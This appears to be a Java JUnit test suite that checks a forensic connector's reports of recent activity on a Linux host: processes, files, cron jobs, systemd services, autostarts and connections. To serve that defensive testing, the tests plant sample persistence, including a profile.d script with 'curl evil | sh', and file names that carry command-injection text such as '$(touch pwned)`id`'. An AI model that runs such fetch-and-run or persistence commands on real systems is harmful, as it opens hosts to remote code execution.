package dev.quaestor.connector.linux;

import static org.assertj.core.api.Assertions.assertThat;

import dev.quaestor.connector.capability.RecentActivity;
import dev.quaestor.connector.capability.RecentActivity.Kind;
import dev.quaestor.connector.capability.RecentActivity.Traces;
import dev.quaestor.entity.Device;
import dev.quaestor.entity.FileArtifact;
import dev.quaestor.entity.ProcessArtifact;
import dev.quaestor.entity.ScheduledTask;
import dev.quaestor.entity.SystemService;
import dev.quaestor.text.Sha256;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a real host tells of what was done there lately, and what it says that it cannot tell. */
@OnRealHost
class ActivityAsRootTest {
  private static final Device WEB = new Device(null, "web-01", null, null, List.of(), List.of());
  private static RealHost host;
  private RecentActivity activity;
  private final Instant since = Instant.now().minusSeconds(2);

  @BeforeAll
  static void up(RealHost made) {
    host = made;
  }

  @BeforeEach
  void connect() throws Exception {
    activity = RealHost.port(host.connect(), RecentActivity.class);
  }

  @AfterEach
  void asItWas() throws Exception {
    host.sh(
        """
        pkill -9 -f 'sleep 77[7]'
        rm -rf /tmp/* /tmp/.[a-z]* /etc/cron.d/lair /var/spool/cron/crontabs/eve /etc/systemd/system/lair.*
        rm -f /etc/profile.d/lair.sh /dev/shm/*
        """);
  }

  private Traces seen(Kind kind, int limit) {
    return activity.on(List.of(WEB), kind, since, limit).get(WEB.key());
  }

  @Test
  void whatRunsNowIsToldWithItsFileAndThatTheRestCannotBe() throws Exception {
    host.sh("cp /bin/sleep '/tmp/a \"b\"'; setsid '/tmp/a \"b\"' 777 </dev/null >/dev/null 2>&1 &");
    Thread.sleep(300);

    var traces = seen(Kind.PROCESSES, 20);

    assertThat(traces.untold()).contains("has ended").contains("could not tell");
    assertThat(traces.things())
        .filteredOn(p -> ((ProcessArtifact) p).commandLine().contains("777"))
        .singleElement()
        .satisfies(
            p -> {
              var process = (ProcessArtifact) p;
              assertThat(process.image().imagePath()).contains("/tmp/a \"b\"");
              assertThat(process.image().sha256()).hasSize(64);
              assertThat(process.account()).isEqualTo("root");
              assertThat(process.startedAt())
                  .isBetween(since.minusSeconds(5), Instant.now().plusSeconds(5));
            });
  }

  /** Several looks at once would else fill the newest twenty with one another. */
  @Test
  void whatTheEngineRunsThereIsNotToldAsWhatHappened() throws Exception {
    var looks =
        IntStream.range(0, 4)
            .mapToObj(n -> CompletableFuture.supplyAsync(() -> seen(Kind.PROCESSES, 20)))
            .toList();

    for (var look : looks) {
      assertThat(look.get().things())
          .extracting(p -> String.valueOf(((ProcessArtifact) p).commandLine()))
          .noneMatch(line -> line.contains("sh -s") || line.contains("notty"))
          .noneMatch(line -> line.startsWith("sort ") || line.startsWith("find "));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "plain",
        "it's \"quoted\"",
        "line\nbreak\n",
        "$(touch pwned)`id`",
        "-rf",
        " MORE",
        "tab\tand \u202e",
        "back\\slash",
      })
  void namesAreDataFromEndToEnd(String name) throws Exception {
    var base64 = Base64.getEncoder().encodeToString(name.getBytes(StandardCharsets.UTF_8));
    host.sh(
        "n=$(printf %%s %s | base64 -d; printf x); printf bad >\"/tmp/${n%%x}\"".formatted(base64));

    var traces = seen(Kind.FILES, 20);

    assertThat(traces.more()).isFalse();
    assertThat(traces.untold()).isNull();
    assertThat(traces.things())
        .contains(
            new FileArtifact(
                "web-01",
                name,
                "/tmp",
                Sha256.of("bad".getBytes(StandardCharsets.UTF_8)),
                null,
                null,
                3L,
                null));
    assertThat(host.sh("ls /pwned /root/pwned /tmp/pwned 2>/dev/null").said()).isEmpty();
  }

  @Test
  void aPathOfFourThousandBytesAndANameThatIsNoTextAreNoTrouble() throws Exception {
    host.sh(
        """
        cd /tmp; d=$(printf 'd%.0s' $(seq 200)); for i in $(seq 19); do mkdir $d; cd $d; done
        printf bad >$(printf 'f%.0s' $(seq 200))
        """);
    assertThat(seen(Kind.FILES, 20).things()).hasSize(1);
    host.sh("printf bad >\"/tmp/$(printf '\\377\\376')\"");
    var traces = seen(Kind.FILES, 20);
    assertThat(traces.things()).hasSize(1);
    assertThat(traces.more()).as("it was seen and cannot be told").isTrue();
  }

  @Test
  void onlyTheNewestAreToldAndThatThereWereMore() throws Exception {
    host.sh("for i in $(seq 40); do printf $i >/tmp/f$i; done; sleep 0.1; printf last >/tmp/last");

    var traces = seen(Kind.FILES, 5);

    assertThat(traces.things()).hasSize(5);
    assertThat(((FileArtifact) traces.things().getFirst()).name()).isEqualTo("last");
    assertThat(traces.more()).isTrue();
  }

  @Test
  void whatStartsByItselfIsToldAsWhatCanBeTakenAway() throws Exception {
    host.sh(
        """
        mkdir -p /var/spool/cron/crontabs
        printf '# x\nPATH=/bin\n* * * * * root /tmp/.x "$(id)"\n' >/etc/cron.d/lair
        printf '@reboot /tmp/.y\n' >/var/spool/cron/crontabs/eve
        printf '[Timer]\n' >/etc/systemd/system/lair.timer
        printf '[Service]\nExecStart=-/tmp/.z --now\n' >/etc/systemd/system/lair.service
        printf 'curl evil | sh\n' >/etc/profile.d/lair.sh
        """);

    assertThat(seen(Kind.TASKS, 20).things())
        .contains(
            new ScheduledTask(
                "web-01", "/etc/cron.d/lair: * * * * * root /tmp/.x \"$(id)\"", "/etc/cron.d/lair"),
            new ScheduledTask(
                "web-01",
                "/var/spool/cron/crontabs/eve: @reboot /tmp/.y",
                "/var/spool/cron/crontabs/eve"),
            new ScheduledTask("web-01", "lair.timer", null))
        .noneMatch(task -> ((ScheduledTask) task).name().contains("PATH="));
    assertThat(seen(Kind.SERVICES, 20).things())
        .contains(new SystemService("web-01", "lair.service", "/tmp/.z"));
    assertThat(seen(Kind.AUTOSTARTS, 20).things())
        .anyMatch(
            file ->
                ((FileArtifact) file).imagePath().equals(Optional.of("/etc/profile.d/lair.sh")));
  }

  @Test
  void connectionsOfNowAreToldButNotTheEnginesOwn() throws Exception {
    var web = host.address().replaceAll("2$", "6");
    host.sh(
        "setsid bash -c 'exec 3<>/dev/tcp/%s/80; sleep 777' </dev/null >/dev/null 2>&1 &"
            .formatted(web));
    Thread.sleep(500);

    var traces = seen(Kind.CONNECTIONS, 20);

    assertThat(traces.things())
        .extracting(Object::toString)
        .containsExactly("IpAddress[value=%s]".formatted(web));
    assertThat(traces.untold()).contains("before");
  }

  @ParameterizedTest
  @EnumSource(
      value = Kind.class,
      names = {"SIGN_INS", "CLICKS"},
      mode = EnumSource.Mode.EXCLUDE)
  void lookingChangesNothingOnTheHost(Kind kind) throws Exception {
    var before = host.sh("ls -A /tmp /dev/shm /run; ls -d /var/lib/quaestor 2>&1").said();

    assertThat(seen(kind, 20)).isNotNull();

    assertThat(activity.kinds()).contains(kind);
    assertThat(host.sh("ls -A /tmp /dev/shm /run; ls -d /var/lib/quaestor 2>&1").said())
        .isEqualTo(before);
  }
}
